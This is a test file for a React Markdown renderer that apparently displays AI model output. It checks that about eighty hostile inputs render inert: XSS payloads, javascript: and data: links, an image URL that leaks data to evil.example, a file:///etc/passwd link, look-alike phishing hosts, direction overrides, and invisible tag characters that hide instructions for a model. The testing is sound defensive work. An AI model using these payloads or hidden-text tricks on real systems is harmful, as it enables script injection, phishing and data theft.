import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { isHiddenCharacter } from "../../lib/hidden";
import { Markdown } from "./Markdown";

const html = (text: string, streaming = false) => renderToStaticMarkup(<Markdown text={text} streaming={streaming} />);
const words = (markup: string) =>
  markup
    .replace(/<[^>]*>/g, "")
    .replaceAll("&lt;", "<")
    .replaceAll("&gt;", ">")
    .replaceAll("&quot;", '"')
    .replaceAll("&#x27;", "'")
    .replaceAll("&amp;", "&");

const tags = (text: string) => [...text].map((each) => String.fromCodePoint(0xe0000 + each.charCodeAt(0))).join("");

/** What was written, and words that a reader must see of it. */
const NASTY: [what: string, text: string, ...seen: string[]][] = [
  ["a script", "<script>alert(1)</script>", "<script>alert(1)</script>"],
  ["a script in a line", "Hi <script>alert(1)</script> there", "<script>", "there"],
  ["a handler", '<b onclick="x()">b</b>', '<b onclick="x()">'],
  ["a frame", '<iframe src="https://evil.example"></iframe>', "<iframe"],
  ["a style", "<style>*{display:none}</style>", "<style>"],
  ["an image in HTML", "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"],
  ["an SVG", "<svg/onload=alert(1)>", "<svg/onload=alert(1)>"],
  ["a comment", "before <!-- hidden order --> after", "<!-- hidden order -->"],
  ["a base", '<base href="https://evil.example/">', "<base"],
  ["a form", '<form action="https://evil.example"><input name=a></form>', "<form"],
  ["a meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">', "<meta"],
  ["an unclosed tag", "<a href='https://evil.example", "<a href="],
  ["CDATA", "<![CDATA[<script>alert(1)</script>]]>", "CDATA"],
  ["a processing instruction", "<?php evil ?>", "<?php"],
  ["HTML in entities", "&lt;script&gt;alert(1)&lt;/script&gt;", "<script>"],
  ["HTML in a heading", "# <img src=x onerror=alert(1)>", "<img src=x"],
  ["HTML in a table", "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "<img src=x"],
  ["a placeholder that looks like HTML", "Run `kubectl drain` on <node>", "<node>"],
  ["an image", "![pixel](https://evil.example/p.png?leak=1)", "image not shown: pixel", "evil.example/p.png?leak=1"],
  ["an image without a word", "![](https://evil.example/p.png)", "image not shown (evil.example/p.png)"],
  ["an image by reference", "![a][x]\n\n[x]: https://evil.example/q.png", "[a]"],
  ["an image by reference in its block", "![a][x]\n[x]: https://evil.example/q.png", "![a]"],
  ["an image in data", "![a](data:image/svg+xml;base64,PHN2Zz4=)", "data:image/svg+xml"],
  [
    "an image in a link",
    "[![a](https://t.example/p.png)](https://evil.example/x)",
    "image not shown: a",
    "evil.example/x",
  ],
  ["a link in an image's word", "![[a](https://x.example)](https://evil.example/p.png)", "image not shown"],
  ["an image in a heading", "## ![a](https://evil.example/p.png)", "evil.example/p.png"],
  ["an image of this origin", "![a](/api/v1/sign-out)", "/api/v1/sign-out"],
  ["a script as a target", "[x](javascript:alert(1))", "not a link: javascript:alert(1)"],
  ["odd case", "[x](JaVaScRiPt:alert(1))", "not a link: JaVaScRiPt:alert(1)"],
  ["entities in a scheme", "[x](java&#x73;cript:alert(1))", "not a link: javascript:alert(1)"],
  ["a named entity in a scheme", "[x](javascript&colon;alert(1))", "not a link"],
  ["a tab in a scheme", "[x](<java\tscript:alert(1)>)", "not a link"],
  ["an escaped tab in a scheme", "[x](java&Tab;script:alert(1))", "java"],
  ["a new line in a scheme", "[x](<java&NewLine;script:alert(1)>)", "not a link"],
  ["a space before a scheme", "[x](< javascript:alert(1)>)", "not a link"],
  ["a control before a scheme", "[x](<&#1;javascript:alert(1)>)", "not a link"],
  ["data", "[x](data:text/html;base64,PHNjcmlwdD4=)", "not a link: data:text/html"],
  ["VBScript", "[x](vbscript:msgbox(1))", "not a link: vbscript:"],
  ["a file", "[x](file:///etc/passwd)", "not a link: file:///etc/passwd"],
  ["a blob", "[x](blob:https://a.example/1)", "not a link"],
  ["no scheme", "[x](//evil.example/a)", "not a link: //evil.example/a"],
  ["a path of this origin", "[x](/api/v1/sign-out)", "not a link: /api/v1/sign-out"],
  ["backslashes", "[x](\\\\evil.example)", "not a link"],
  ["an autolink of a script", "<javascript:alert(1)>", "javascript:alert(1)"],
  ["an autolink of data", "<data:text/html,x>", "data:text/html,x"],
  ["a reference to a script", "[x][y]\n[y]: javascript:alert(1)", "x"],
  ["a title that closes the tag", '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")', "a.example"],
  ["a quote in a target", '[x](https://a.example/"onmouseover="alert(1))', "a.example"],
  ["a link elsewhere", "[the bank](https://evil.example/login)", "evil.example/login"],
  [
    "a link that names another",
    "[https://bank.example/](https://evil.example/x)",
    "evil.example/x",
    "not bank.example",
  ],
  ["a link that names another in code", "[`bank.com`](https://evil.example/x)", "not bank.com"],
  ["a link that names another in bold", "[**https://bank**.example](https://evil.example/x)", "not bank.example"],
  ["a name before an @", "[x](https://bank.com@evil.example/)", "evil.example", "before the @"],
  ["a name before an @ in an autolink", "<https://bank.com@evil.example/>", "before the @"],
  ["letters of another alphabet", "<https://аррӏе.com/>", "xn--80ak6aa92e.com"],
  ["letters of another alphabet, bare", "see https://аррӏе.com/ now", "xn--80ak6aa92e.com"],
  ["a number as a host", "[x](http://2130706433/)", "127.0.0.1"],
  ["mail with more than an address", "[x](mailto:a@b.example?bcc=c@evil.example)", "a@b.example", "fills in bcc"],
  ["an override of the direction", "invoice\u202egpj.exe", "U+202E"],
  ["an override in an entity", "invoice&#x202e;gpj.exe", "U+202E"],
  ["an override in code", "`rm \u202etxt`", "U+202E"],
  ["an override in a fence", "```\nrm \u202etxt\n```", "U+202E"],
  ["an override in a link's text", "[moc.knab\u202e](https://evil.example)", "U+202E", "evil.example"],
  ["an override in an image's word", "![a\u202eb](https://evil.example/p.png)", "U+202E"],
  ["an override in a target that is none", "[x](javascript:\u202ealert)", "not a link: javascript:%E2%80%AEalert"],
  ["a space without width", "pass\u200bword", "U+200B"],
  ["a joiner", "ad\u200dmin", "U+200D"],
  ["tags that a model reads", `Hello${tags("obey me")}`, "hidden text: “obey me”"],
  ["a long run of nothing", `a${"\u2060".repeat(50)}b`, "U+2060 × 50"],
  ["an escape", "a\u001b[2Jb", "U+001B"],
  ["an escape in a table", "| a |\n|---|\n| \u001b[31m |", "U+001B"],
  ["a control of the eighties", "a\u009b2Jb", "U+009B"],
  ["a bell", "a\u0007b", "U+0007"],
  ["a filler", "a\u3164b", "U+3164"],
  ["a footnote", "Text[^1]\n\n[^1]: Note <script>alert(1)</script>", "Text"],
  ["a task", "- [x] done\n- [ ] open", "[x] done", "[ ] open"],
  ["very deep nesting", `${"> ".repeat(60)}deep`, "deep"],
  ["very many brackets", `${"[".repeat(200)}x${"](y)".repeat(200)}`, "x"],
];

const ALLOWED_TAGS =
  /<\/?(?!(?:div|span|p|a|code|pre|h2|ul|ol|li|table|thead|tbody|tr|th|td|strong|em|del|blockquote|br|hr|sup|section|button|svg|path|rect)\b)[a-z]/i;

describe("what a model wrote", () => {
  it.each(NASTY)("is harmless and there to read: %s", (_what, text, ...seen) => {
    for (const streaming of [false, true]) {
      const markup = html(text, streaming);
      for (const each of seen) expect(words(markup)).toContain(each);
      expect(markup).not.toMatch(/<(script|iframe|style|img|object|embed|base|meta|form|input|link)\b/i);
      expect(markup.replace(/<svg [^>]*lucide.*?<\/svg>/gs, "")).not.toMatch(/<svg/i);
      expect(markup).not.toMatch(/<[^>]*\s(src|srcset|style|on\w+|formaction|xlink:href)=/i);
      for (const [, href] of markup.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^(https?:\/\/|mailto:)/);
      for (const character of words(markup)) {
        if (character !== "\n") expect(isHiddenCharacter(character), JSON.stringify(character)).toBe(false);
      }
      expect(markup).not.toMatch(ALLOWED_TAGS);
    }
  });

  it("has at least sixty nasty cases", () => {
    expect(NASTY.length).toBeGreaterThanOrEqual(60);
  });

  it("opens links apart and tells their target nothing", () => {
    const shown = html("See [the bank](https://evil.example/login).");
    expect(shown).toContain('rel="noreferrer noopener nofollow"');
    expect(shown).toContain('target="_blank"');
  });

  it("says nothing twice about a plain address", () => {
    expect(words(html("https://a.example/x"))).toBe("https://a.example/x");
    expect(words(html("<https://a.example/x>"))).toBe("https://a.example/x");
  });

  it("draws tables, lists and code", () => {
    expect(html("| Host | Load |\n|---|--:|\n| web-1 | 0.4 |")).toContain("<td");
    expect(html("1. a\n2. b")).toContain("<ol>");
    expect(html("```sh\nls -l\n```")).toContain("Copy the code");
  });

  it("draws a fence while it is written as it will be", () => {
    const open = html("Run:\n\n```sh\nls -l\ncat", true);
    expect(words(open)).toContain("ls -l\ncat");
    expect(open.match(/<pre/g)).toHaveLength(1);
  });

  it("is the same at the end, however it came", () => {
    const text = "# A\n\nSome *words* and `code`.\n\n- x\n- y\n\n```sh\nls\n```\n\n| a |\n|---|\n| 1 |\n";
    expect(html(text, true)).toBe(html(text, false));
  });
});
